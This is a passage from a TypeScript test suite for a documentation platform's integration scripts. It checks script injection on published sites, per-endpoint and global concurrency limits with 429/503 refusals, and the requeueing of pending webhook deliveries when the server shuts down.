    // Another site of the organization loads the script only once the installation covers every site; another organization's site never does.
    const second = (await as('POST', sites, { title: 'Second Docs' })).body;
    expect((await as('POST', `${sites}/${second.id}/site-spaces`, { spaceId: space.id })).status).toBe(201);
    const secondPath = new URL((await as('POST', `${sites}/${second.id}/publish`)).body.urls.published).pathname;
    const other = await publishSampleSite(testApp);
    expect(scriptsOf((await open(`${secondPath}/start-here`)).document)).toEqual([[readerScript, 'defer']]);
    expect((await as('PATCH', `/v1/integrations/counter/installations/${installation}`, { site_selection: 'all' })).status).toBe(200);
    expect(scriptsOf((await open(`${secondPath}/start-here`)).document)).toEqual([
      [readerScript, 'defer'],
      [`${testApp.app.ctx.config.publicUrl}/v1/integrations/counter/installations/${installation}/sites/${second.id}/script.js?v=1`, 'async'],
    ]);
    const otherPage = await other.open(`${other.path}/start-here`);
    expect(otherPage.response.statusCode).toBe(200);
    expect(scriptsOf(otherPage.document)).toEqual([[readerScript, 'defer']]);
    expect(otherPage.response.headers['content-security-policy']).not.toContain('count.example.com');

    // A site nobody may read answers its plain 404, which loads nothing of the site's.
    expect((await as('POST', `${sites}/${site.id}/unpublish`)).status).toBe(200);
    const unpublished = await open(`${path}/no-such-page`);
    expect(unpublished.response.statusCode).toBe(404);
    expect(scriptsOf(unpublished.document)).toEqual([]);
  }, 30_000);

  it('takes at most 8 requests at once at one public endpoint and 32 at all of them, refusing the rest at once with Retry-After, so that a flood at one endpoint leaves room for the others', async () => {
    // The script answers which endpoint it was called at, after holding the runtime as long as the caller asks.
    const holding = `export default {
      async fetch(request) {
        const event = JSON.parse((await request.formData()).get('event'));
        if (event.type !== 'fetch') return new Response('OK');
        const hold = Number(event.request.headers['x-hold'] ?? 0);
        if (hold > 0) await new Promise((resolve) => setTimeout(resolve, hold));
        return new Response(event.installationId ?? 'integration');
      },
    };`;
    const publisher = await buildOrganization(testApp, 'Hooks');
    const published = await request(testApp.app, 'POST', '/v1/integrations/hooks', { token: publisher.admin.token, body: { title: 'Hooks', description: 'Takes webhooks', scopes: [], organization: publisher.organizationId, visibility: 'public', script: holding } });
    expect(published.status, JSON.stringify(published.body)).toBeLessThan(300);
    const endpoints = ['/v1/integrations/hooks/fetch'];
    for (const name of ['One', 'Two', 'Three', 'Four']) {
      const installer = await buildOrganization(testApp, name);
      const installation = await request(testApp.app, 'POST', '/v1/integrations/hooks/installations', { token: installer.admin.token, body: { organization: installer.organizationId } });
      endpoints.push(`/v1/integrations/hooks/installations/${installation.body.id}/fetch`);
    }
    await eventsDelivered(testApp);
    const send = (endpoint: string, hold = 0) => testApp.app.inject({ method: 'POST', url: `${endpoint}/hook`, headers: { 'x-hold': String(hold) }, payload: '{}' });
    const statuses = (answers: Array<{ statusCode: number }>) => answers.map((answer) => answer.statusCode).sort();
    expect((await send(endpoints[0])).body).toBe('integration');

    // One endpoint flooded while its script is busy: 8 are taken, the rest refused at once; another endpoint is still taken.
    let holder = send(endpoints[0], 1_000);
    await new Promise((resolve) => setTimeout(resolve, 200));
    const flood = Promise.all(Array.from({ length: 11 }, () => send(endpoints[0])));
    const other = send(endpoints[1]);
    const refused = (await flood).filter((answer) => answer.statusCode !== 200);
    expect(statuses(refused)).toEqual([429, 429, 429, 429]);
    expect(refused[0].headers['retry-after']).toBe('5');
    expect(refused[0].json()).toEqual({ error: { code: 429, message: "This endpoint already has 8 requests waiting for the integration's script, the most it takes at once; send the request again in a few seconds" } });
    expect((await other).body).toBe(endpoints[1].split('/')[5]);
    expect((await holder).statusCode).toBe(200);

    // Every endpoint flooded at once: 32 in all are taken.
    holder = send(endpoints[0], 1_000);
    await new Promise((resolve) => setTimeout(resolve, 200));
    const all = await Promise.all(endpoints.slice(1).flatMap((endpoint) => Array.from({ length: 8 }, () => send(endpoint))));
    expect(statuses(all.filter((answer) => answer.statusCode !== 200))).toEqual([503]);
    expect(all.find((answer) => answer.statusCode === 503)!.json().error.message).toBe('Integration scripts already have 32 requests from their public endpoints waiting, the most Quire takes at once; send the request again in a few seconds');
    expect((await holder).statusCode).toBe(200);
    // Answered or refused, every request gave its place back.
    expect(statuses(await Promise.all(Array.from({ length: 8 }, () => send(endpoints[0]))))).toEqual(Array(8).fill(200));
  }, 30_000);

  it('stops without running the deliveries waiting for the script, which go back untried, due at once, and the next start delivers: a stopping server does not work through a backlog first', async () => {
    const stopping = await startTestApp({ QUIRE_ALLOW_PRIVATE_URLS: 'true' });
    let next: Awaited<ReturnType<typeof buildApp>> | undefined;
    try {
      const slow = 'export default { async fetch() { await new Promise((resolve) => setTimeout(resolve, 1000)); return new Response("OK"); } };\n';
      const publisher = await buildOrganization(stopping, 'Publisher');
      const body = { title: 'Slow', description: 'Takes its time', scopes: [], organization: publisher.organizationId, visibility: 'public', script: slow };
      expect((await request(stopping.app, 'POST', '/v1/integrations/slow', { token: publisher.admin.token, body })).status).toBeLessThan(300);
      for (const name of ['One', 'Two', 'Three', 'Four', 'Five']) {
        const installer = await buildOrganization(stopping, name);
        expect((await request(stopping.app, 'POST', '/v1/integrations/slow/installations', { token: installer.admin.token, body: { organization: installer.organizationId } })).status).toBe(201);
      }
      const deliveries = () => stopping.database.db.selectFrom('event_deliveries').selectAll().where('subscriber', 'like', 'integration:%').execute();
      await waitFor('the first delivery to start', async () => ((await deliveries()).some((delivery) => delivery.attempts > 0) ? true : undefined));

      // Each event holds the script a second: at most the one running when it stopped was delivered.
      await stopping.app.close();
      expect((await deliveries()).filter((delivery) => delivery.state === 'done').length, 'deliveries the stopping server ran').toBeLessThanOrEqual(1);
      // The refused were never tried: restarts alone must not use up their retries or push them out.
      const refused = (await deliveries()).filter((delivery) => delivery.state === 'pending' && delivery.attempts === 0 && delivery.last_error === null);
      expect(refused.length, 'deliveries put back untried').toBeGreaterThanOrEqual(3);
      const jobs = await stopping.database.db.selectFrom('jobs').selectAll().where('kind', '=', 'deliver-event').execute();
      const refusedJobs = jobs.filter((job) => refused.some((delivery) => job.payload.includes(delivery.event_id)));
      expect(refusedJobs).toHaveLength(refused.length);
      for (const job of refusedJobs) {
        expect(job.attempts, 'a refused job counts no run').toBe(0);
        expect(job.locked_until, 'a refused job is free for any process').toBeNull();
        expect(job.run_at <= stopping.clock.now().toISOString(), 'a refused job is due at once').toBe(true);
      }

      next = await buildApp({ config: testAppConfig(stopping.testDatabase.env, { QUIRE_ALLOW_PRIVATE_URLS: 'true' }), database: stopping.database, clock: stopping.clock });
      const started = next;
      await waitFor('every delivery, by the next start', async () => {
        stopping.clock.advance(60_000);
        await runDueJobs(started.ctx, jobHandlers);
        const all = await deliveries();
        return all.every((delivery) => delivery.state === 'done') ? all : undefined;
      });
      expect(await deliveries()).toHaveLength(5);
    } finally {
      await next?.close();
      await stopping.database.close();
      await stopping.testDatabase.drop();
    }
  }, 30_000);
});
